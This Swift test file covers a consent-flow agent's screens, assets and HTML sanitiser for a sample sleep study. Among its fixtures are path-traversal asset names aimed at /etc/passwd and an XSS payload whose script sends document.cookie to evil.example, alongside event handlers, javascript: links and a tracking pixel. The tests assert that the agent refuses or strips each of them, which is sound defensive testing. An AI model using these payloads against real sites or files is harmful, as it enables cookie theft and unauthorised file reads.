import Foundation
import Testing

/// A copy of the bundled sample study in a temporary folder, for tests that change a file of it.
struct SampleStudyCopy {
    let folder: URL

    init() throws {
        folder = URL(fileURLWithPath: "/tmp").appendingPathComponent("cdi-study-\(UUID().uuidString.prefix(8))")
        try FileManager.default.copyItem(at: Paths.root.appendingPathComponent("Sources/SampleStudy/sample"), to: folder)
    }

    func write(_ path: String, _ data: Data) throws {
        let url = folder.appendingPathComponent(path)
        try FileManager.default.createDirectory(at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
        try data.write(to: url)
    }

    var arguments: [String] { ["--study", folder.path] }

    func remove() { try? FileManager.default.removeItem(at: folder) }
}

extension ConsentdIntegration {
    /// Everything a screen shows comes from the agent, over the socket (and every line the agent
    /// sends validates against the tightened schemas when each test finishes).
    @Suite struct ViewModel {
        static let samplePNG = Paths.root.appendingPathComponent("Sources/SampleStudy/sample/consent_wrist_sensor.png")

        @Test func studyGetGivesTheStudysOwnTitleInEveryLanguage() throws {
            let agent = try ConsentdProcess("view-title")
            let ui = try agent.client()
            ui.negotiate()
            let study = ui.call("study.get")
            #expect(study.string("result.study.title") == "Heartbeat & Sleep Study")
            let languages = study.array("result.study.languages") as? [JSONObject] ?? []
            #expect(languages.map { $0["title"] as? String }
                == ["Heartbeat & Sleep Study", "Studie Heartbeat & Sleep", "Estudio Heartbeat & Sleep", "Étude Heartbeat & Sleep"])
            #expect(ui.call("flow.start", ["language": "fr"]).string("result.view.studyTitle") == "Étude Heartbeat & Sleep")
            agent.finish()
        }

        @Test(arguments: ["en", "de", "fr"])
        func everyScreenOfAConsentHasItsLabelsAndTexts(_ language: String) throws {
            let agent = try ConsentdProcess("view-labels-\(language)")
            let ui = try agent.client()
            ui.negotiate()
            let flow = FlowDriver(ui, language: language)
            var views: [JSONObject] = [flow.call("flow.get")]
            views.append(flow.call("eligibility.answer", ["answers": FlowDriver.eligibleAnswers]))
            var reply = flow.call("flow.next", ["step": "eligibility"])
            #expect(reply.string("result.step") == "keyInformation")
            views.append(reply)
            reply = flow.call("flow.next", ["step": "keyInformation"])
            while reply.string("result.step") == "visual" {
                views.append(reply)
                reply = flow.call("flow.next", ["step": "visual"])
            }
            views.append(reply)
            views.append(flow.call("sharing.choose", ["shareWidely": true]))
            #expect(views.last?.string("result.step") == "optional")
            views.append(flow.call("optional.answer", ["answers": ["future-research": true, "contact-other-studies": false]]))
            views += flow.agreeAndAnswer()
            views.append(flow.call("participant.setName", ["given": "Ada", "family": "Lovelace"]))
            views.append(flow.call("signature.submit", ["strokes": FlowDriver.signature]))
            views.append(flow.call("flow.complete"))
            #expect(views.last?.string("result.step") == "completed")

            for view in views {
                let actions = view.array("result.view.actions") as? [String] ?? []
                let labels = view.object("result.view.labels") ?? [:]
                var expected = Set(actions)
                if actions.contains("answer") { expected.formUnion(["answer.yes", "answer.no"]) }
                if actions.contains("optionalAnswer") { expected.formUnion(["optionalAnswer.yes", "optionalAnswer.no"]) }
                #expect(Set(labels.keys) == expected, "\(view.string("result.step") ?? "?")")
                #expect(labels.values.allSatisfy { ($0 as? String)?.isEmpty == false })
                #expect(view.string("result.view.language") == language)
            }
            let first = try #require(views.first)
            let yes = ["en": "Yes", "de": "Ja", "fr": "Oui"][language]
            #expect(first.object("result.view.labels")?["answer.yes"] as? String == yes)
            let button = try #require(first.string("result.view.eligibility.button"))
            #expect(first.object("result.view.labels")?["answer"] as? String == button)
            #expect(first.string("result.view.eligibility.message")?.contains(button) == true)
            // The scene with a picture names an image the agent delivers.
            let pictured = try #require(views.first { $0.string("result.view.scene.image") != nil })
            let image = ui.call("study.asset", ["name": try #require(pictured.string("result.view.scene.image")), "language": language])
            #expect(image.string("result.mediaType") == "image/png")
            let signature = try #require(views.first { $0.string("result.view.review.page") == "signature" })
            #expect(signature.string("result.view.review.signingArea.source") == "default")
            #expect(signature.int("result.view.review.signingArea.widthMM") == 120)
            #expect(signature.int("result.view.review.signingArea.heightMM") == 40)
            #expect(signature.int("result.view.review.signingArea.aspect") == 3)
            let done = try #require(views.first { $0.string("result.step") == "done" })
            let finish = try #require(done.object("result.view.labels")?["complete"] as? String)
            #expect(done.string("result.view.end.message")?.contains(finish) == true)
            let completed = try #require(views.last)
            #expect(completed.string("result.view.end.title")?.isEmpty == false)
            #expect(completed.string("result.view.end.message")?.isEmpty == false)
            agent.finish()
        }

        @Test func everyEndStateHasATitleAndAMessage() throws {
            let agent = try ConsentdProcess("view-end")
            let ui = try agent.client()
            ui.negotiate()
            let declined = FlowDriver(ui).call("flow.decline")
            #expect(declined.string("result.view.end.title") == "Not Taking Part")
            #expect(declined.string("result.view.end.message") == "You chose not to take part. Nothing you entered has been kept.")
            let cancelled = FlowDriver(ui, language: "de").call("flow.cancel")
            #expect(cancelled.string("result.view.end.title") == "Abgebrochen")
            let ineligible = FlowDriver(ui, language: "fr").call("eligibility.answer", ["answers": [true, true, true, true]])
            #expect(ineligible.string("result.step") == "ineligible")
            #expect(ineligible.string("result.view.end.title") == "Admissibilité")
            #expect(ineligible.string("result.view.end.message")?.hasPrefix("Merci de votre intérêt") == true)
            agent.finish()
        }

        @Test func studyAssetDeliversTheImagesTheStudyUsesAndNothingElse() throws {
            let agent = try ConsentdProcess("view-asset")
            let ui = try agent.client()
            ui.negotiate()
            let image = ui.call("study.asset", ["name": "consent_wrist_sensor"])
            #expect(image.string("result.name") == "consent_wrist_sensor")
            #expect(image.string("result.mediaType") == "image/png")
            let encoded = try #require(image.string("result.data"))
            let bytes = try #require(Data(base64Encoded: encoded))
            #expect(bytes == (try Data(contentsOf: Self.samplePNG)))
            #expect(image.int("result.size") == bytes.count)
            #expect(ui.call("study.asset", ["name": "consent_wrist_sensor", "language": "de"]).string("result.mediaType") == "image/png")

            for name in ["nothing", "contract", "contract.json", "options.json", "consent_wrist_sensor.png", "../sample/consent_wrist_sensor",
                         "../../../../etc/passwd", "/etc/passwd", "de/contract.json", "HTMLContent/privacy.html", "", "%2e%2e/x"]
            {
                let refused = ui.call("study.asset", ["name": name])
                #expect(refused.errorType == "UnknownAsset", "\(name)")
                #expect(refused.int("error.code") == -32000)
            }
            #expect(ui.call("study.asset", ["name": "consent_wrist_sensor", "language": "it"]).errorType == "UnknownLanguage")
            #expect(ui.call("study.asset", ["name": "consent_wrist_sensor", "study": "nope"]).errorType == "UnknownStudy")
            #expect(ui.call("study.asset", [:]).string("error.data.field") == "name")
            #expect(ui.call("study.asset", ["name": 3]).string("error.data.field") == "name")
            #expect(ui.call("study.asset", ["name": "x", "path": "/etc/passwd"]).errorType == "InvalidParams")
            // Still serving.
            #expect(ui.call("study.get").string("result.study.id") != nil)
            agent.finish()
        }

        @Test func aTooLargeImageIsATypedError() throws {
            let study = try SampleStudyCopy()
            defer { study.remove() }
            var big = try Data(contentsOf: Self.samplePNG)
            big.append(Data(count: 600 * 1024))
            try study.write("consent_wrist_sensor.png", big)
            let agent = try ConsentdProcess("view-asset-large", arguments: study.arguments)
            let ui = try agent.client()
            ui.negotiate()
            let refused = ui.call("study.asset", ["name": "consent_wrist_sensor"])
            #expect(refused.errorType == "AssetTooLarge")
            #expect(refused.int("error.data.maximum") == 524_288)
            #expect(refused.int("error.data.size") == big.count)
            #expect(ui.call("study.get").string("result.study.id") != nil)
            agent.finish()
        }

        @Test func aTranslationsOwnImageWins() throws {
            let study = try SampleStudyCopy()
            defer { study.remove() }
            let gif = Data("GIF89a".utf8) + Data(count: 32)
            try study.write("de/images/consent_wrist_sensor.gif", gif)
            let agent = try ConsentdProcess("view-asset-language", arguments: study.arguments)
            let ui = try agent.client()
            ui.negotiate()
            #expect(ui.call("study.asset", ["name": "consent_wrist_sensor"]).string("result.mediaType") == "image/png")
            let german = ui.call("study.asset", ["name": "consent_wrist_sensor", "language": "de"])
            #expect(german.string("result.mediaType") == "image/gif")
            #expect(german.string("result.data").flatMap { Data(base64Encoded: $0) } == gif)
            agent.finish()
        }

        @Test func studyHTMLReachesTheUISanitised() throws {
            let study = try SampleStudyCopy()
            defer { study.remove() }
            let hostile = """
                <p onclick="steal()">Your data is coded.<script>fetch('https://evil.example/?'+document.cookie)</script></p>
                <img src="https://tracker.example/pixel.gif" alt="pixel"><img src="nope.png" onerror="alert(1)">
                <img src="consent_wrist_sensor.png" alt="The sensor">
                <p><a href="javascript:alert(1)">Read more</a>, <a href="https://example.org/privacy">the notice</a>,
                <a href="mailto:privacy@example.org">privacy@example.org</a></p>
                <iframe src="https://evil.example"></iframe><style>body{background:url(https://evil.example)}</style>
                """
            try study.write("HTMLContent/privacy.html", Data(hostile.utf8))
            // The key information page follows the same rules as a section's.
            try study.write("key-information.html", Data(hostile.utf8))
            let agent = try ConsentdProcess("view-sanitised", arguments: study.arguments)
            let ui = try agent.client()
            ui.negotiate()
            let flow = FlowDriver(ui)
            flow.call("eligibility.answer", ["answers": FlowDriver.eligibleAnswers])
            var reply = flow.call("flow.next", ["step": "eligibility"])
            let key = try #require(reply.string("result.view.keyInformation.html"))
            reply = flow.call("flow.next", ["step": "keyInformation"])
            var privacy: String?
            while reply.string("result.step") == "visual" {
                if reply.string("result.view.scene.type") == "Privacy" { privacy = reply.string("result.view.scene.learnMoreHTML") }
                reply = flow.call("flow.next", ["step": "visual"])
            }
            _ = flow.call("sharing.choose", ["shareWidely": true])
            let review = try #require(flow.call("optional.answer", ["answers": ["future-research": true, "contact-other-studies": false]]).string("result.view.review.html"))
            for html in [key, try #require(privacy), review] {
                let lower = html.lowercased()
                for forbidden in ["<script", "onerror", "onclick", "javascript:", "href", "src=", "<iframe", "<style", "evil.example", "tracker.example"] {
                    #expect(!lower.contains(forbidden), "\(forbidden) in \(html)")
                }
                #expect(html.contains(#"<span data-link="external">the notice</span>"#))
                #expect(html.contains(#"<span data-link="email">privacy@example.org</span>"#))
                #expect(html.contains(#"<img data-asset="consent_wrist_sensor.png" alt="The sensor"/>"#))
                #expect(html.contains("Your data is coded."))
            }
            #expect(ui.call("study.asset", ["name": "consent_wrist_sensor.png"]).string("result.mediaType") == "image/png")
            agent.finish()
        }
    }
}
